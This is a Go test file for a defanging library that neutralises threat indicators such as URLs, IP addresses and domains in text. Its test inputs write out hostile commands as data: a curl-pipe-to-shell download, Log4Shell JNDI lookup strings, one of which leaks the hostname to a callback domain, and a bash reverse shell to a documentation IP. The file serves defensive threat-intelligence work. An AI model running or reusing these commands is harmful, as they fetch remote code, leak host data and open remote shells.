package defang

import "testing"

func TestTextIsDefangedWhereverAnIndicatorStands(t *testing.T) {
	for in, want := range map[string]string{
		"curl http://192.0.2.1:8080/x.sh|sh":         "curl hxxp://192.0.2[.]1:8080/x.sh|sh",
		"wget HTTPS://evil.example.com/a; ls":        "wget HxxPS://evil.example[.]com/a; ls",
		"${jndi:ldap://192.0.2.1:1389/a}":            "${jndi:ldap://192.0.2[.]1:1389/a}",
		"ftp://u:p@example.org/x":                    "fxxp://u:p@example[.]org/x",
		"chmod 777 aktualisieren.sh; version 1.2":    "chmod 777 aktualisieren.sh; version 1.2",
		"${jndi:ldap://${hostName}.c1.oast.live/a}":  "${jndi:ldap://${hostName}.c1.oast[.]live/a}",
		"no indicator at all":                        "no indicator at all",
		"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1": "bash -i >& /dev/tcp/198.51.100[.]7/4444 0>&1",
	} {
		if got := Text(in); got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
}

func TestWords(t *testing.T) {
	const in, want = "dropper http://192.0.2.1/a.b, c2 pool.example.com, ipv6 2001:db8::1, image somebody/miner", "dropper hxxp://192[.]0[.]2[.]1/a.b, c2 pool[.]example[.]com, ipv6 2001[:]db8[:][:]1, image somebody/miner"
	if got := Words(in); got != want {
		t.Errorf("%s, want %s", got, want)
	}
}
